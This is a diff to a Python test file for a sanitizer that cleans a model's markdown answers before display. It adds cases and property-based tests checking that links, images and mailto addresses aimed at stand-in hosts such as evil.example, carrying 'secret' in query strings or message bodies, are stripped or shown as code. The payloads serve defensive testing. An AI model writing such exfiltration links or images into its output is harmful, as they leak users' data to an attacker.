@@ -3,14 +3,17 @@
 from __future__ import annotations
 
 import re
+from collections.abc import Sequence
 from html.parser import HTMLParser
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
 from query.answers.writing import AnswerSanitizer, sanitize
+from tests.support.portion import portion
 from tests.support.query.answers_kit import numbered
 
 SOURCE = "https://wiki.example/a"
@@ -46,7 +49,32 @@ def shown(text: str) -> str:
         ("<think>Let me see.</think>\n\nYes [1].", " Yes [1]."),
         ("<think>Let me", " "),
         ("Yes <!-- no --> no", "Yes \u2039!-- no --> no"),
-        ("<mailto:eve@evil.example?body=secret [9]>", "\u2039mailto:eve@evil.example?body=secret>"),
+        ("<mailto:eve@evil.example?body=secret [9]>", "\u2039(address removed) >"),
+        ("<eve@evil.example>", "(address removed)"),
+        ("mailto:eve@evil.example", "(address removed)"),
+        ("`curl 'https://docs.example/x'`", "`curl 'https://docs.example/x'`"),
+        ("Run\n\n```sh\ncurl https://docs.example/x\n```\n", "Run\n\n```sh\ncurl https://docs.example/x\n```\n"),
+        (
+            "1. Run\n   ```\n   curl https://docs.example/x\n   ```",
+            "1. Run\n   ```\n   curl https://docs.example/x\n   ```",
+        ),
+        ("`a` https://docs.example/x", "`a` `https://docs.example/x`"),
+        ("A lone ` https://docs.example/x", "A lone ` (address removed)"),
+        ("A lone ` here.\n\nSee https://docs.example/x", "A lone ` here.\n\nSee `https://docs.example/x`"),
+        ("ht[9]tps://evil.example/?q=secret", "ht tps://evil.example/?q=secret"),
+        ("www[9].evil.example", "www .evil.example"),
+        ("https&colon;//evil.example", "https&amp;colon;//evil.example"),
+        ("` https&colon;//evil.example", "` https&amp;colon;//evil.example"),
+        ("`https&colon;//evil.example`", "`https&colon;//evil.example`"),
+        (r"https\://evil.example", r"https\\://evil.example"),
+        (r"1\. R&amp;D &lt;x>", r"1\. R&amp;D &lt;x>"),
+        (f"!![a]({SOURCE})", f"! [a]({SOURCE})"),
+        (f"[a]({SOURCE} 'b')", f"[a]({SOURCE})"),
+        (f"[a](<{SOURCE}>)", f"[a](<{SOURCE}>)"),
+        (f"[a]({SOURCE} https://evil.example/?q=secret)", f"[a]({SOURCE})"),
+        (f"[a]({SOURCE}\u00a0secret)", "[a]"),
+        (f"<{SOURCE}>secret", f"{SOURCE} secret"),
+        (f'{SOURCE}"secret', f'{SOURCE} "secret'),
     ],
 )
 def test_model_output_is_sanitised(written: str, seen: str) -> None:
@@ -106,6 +134,10 @@ ACTIVE = [
     "[[a]](//evil.example/)",
     r"[a\]b](//evil.example/)",
     r"\![a](//evil.example/)",
+    "[a](x)(//evil.example/?q=secret)",
+    "[a][9](x)(//evil.example/?q=secret)",
+    "[1](x)(//evil.example/?q=secret)",
+    "<[9]img src=//evil.example/?q=secret>",
 ]
 HARMLESS = frozenset({"class", "start", "title", "alt"})
 
@@ -213,6 +245,112 @@ def test_only_existing_passages_are_cited(text: str) -> None:
     prose = re.sub(r"`[^`]*`?", "", out)
     assert {int(n) for n in re.findall(r"(?<!\!)\[(\d+)\]", prose)} <= {1, 2, 3}
     assert set(sanitized.cited) <= {1, 2, 3}
+
+
+PASSAGE_ADDRESS = "https://docs.example/x"
+CODE_FRAGMENTS = st.sampled_from(
+    [
+        PASSAGE_ADDRESS,
+        f"<{PASSAGE_ADDRESS}>",
+        f"[a]({SOURCE} {PASSAGE_ADDRESS})",
+        f"[a]({PASSAGE_ADDRESS})",
+        SOURCE,
+        *(
+            "`",
+            "``",
+            "```",
+            "````",
+            "~~~",
+            "\n",
+            "\n",
+            "\n\n",
+            "\r",
+            " ",
+            "  ",
+            "   ",
+            "    ",
+            "\t",
+            "- ",
+            "1. ",
+            "> ",
+            "a",
+        ),
+        *(
+            "a|b\n-|-\n",
+            "|",
+            "<div>",
+            "</div>",
+            "<pre>",
+            "</pre>",
+            "<!--",
+            "-->",
+            "<?",
+            "?>",
+            "\\",
+            "[9](x)",
+            "<think>",
+        ),
+        *(
+            "</think>",
+            "(",
+            ")",
+            "[",
+            "]",
+            "<",
+            ">",
+            "!",
+            "*",
+            "_",
+            '"',
+            "# ",
+            "=",
+            "<p>",
+            "<a@b.example>",
+            "[1]",
+            "www.",
+        ),
+    ]
+)
+
+
+def addresses_outside_code(text: str) -> list[str]:
+    """Return the addresses, other than the source, that a renderer which makes links of bare addresses would link."""
+    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
+    addresses: list[str] = []
+
+    def look_in(words: str) -> None:
+        words = words.replace(SOURCE, "")
+        addresses.extend(re.findall(r"(?:https?|ftp)://\S+|www\.\S+|(?:mailto|xmpp):\S+", words))
+
+    def look(tokens: Sequence[Token]) -> None:
+        words = ""  # of neighbouring texts, entities and escapes
+        for token in tokens:
+            if token.type in ("text", "text_special"):
+                words += token.content
+            else:
+                look_in(words)
+                words = ""
+            look(token.children or ())
+        look_in(words)
+
+    look(renderer.parse(text))
+    return addresses
+
+
+@settings(max_examples=portion(400))
+@given(st.lists(CODE_FRAGMENTS, max_size=20).map("".join))
+def test_an_address_of_a_passage_is_shown_as_code_alone(text: str) -> None:
+    assert addresses_outside_code(shown(text)) == []
+
+
+@given(st.lists(CODE_FRAGMENTS, max_size=20).map("".join), st.lists(st.integers(1, 5), min_size=1, max_size=8))
+def test_streamed_code_is_sanitised_the_same_however_it_is_split(text: str, sizes: list[int]) -> None:
+    writing, out, at, turn = AnswerSanitizer(PASSAGES), "", 0, 0
+    while at < len(text):
+        size = sizes[turn % len(sizes)]
+        out += writing.feed(text[at : at + size])
+        at, turn = at + size, turn + 1
+    assert out + writing.end() == shown(text)
 
 
 def test_streamed_words_are_passed_on_without_delay() -> None:
